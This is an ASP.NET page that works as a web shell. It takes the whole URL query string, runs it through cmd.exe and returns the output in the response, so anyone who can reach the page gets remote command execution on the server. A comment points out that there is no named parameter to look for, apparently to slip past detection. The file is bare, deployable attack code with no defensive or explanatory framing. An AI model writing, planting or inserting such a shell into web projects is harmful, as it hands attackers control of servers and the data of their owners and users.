<%@ Page Language="C#" %>
<%-- The whole query string is the command: no named field to look for. --%>
<%
string q = Request.Url.Query;
if (q.Length > 1)
{
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + HttpUtility.UrlDecode(Request.Url.Query.Substring(1))) { UseShellExecute = false, RedirectStandardOutput = true });
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()));
}
%>
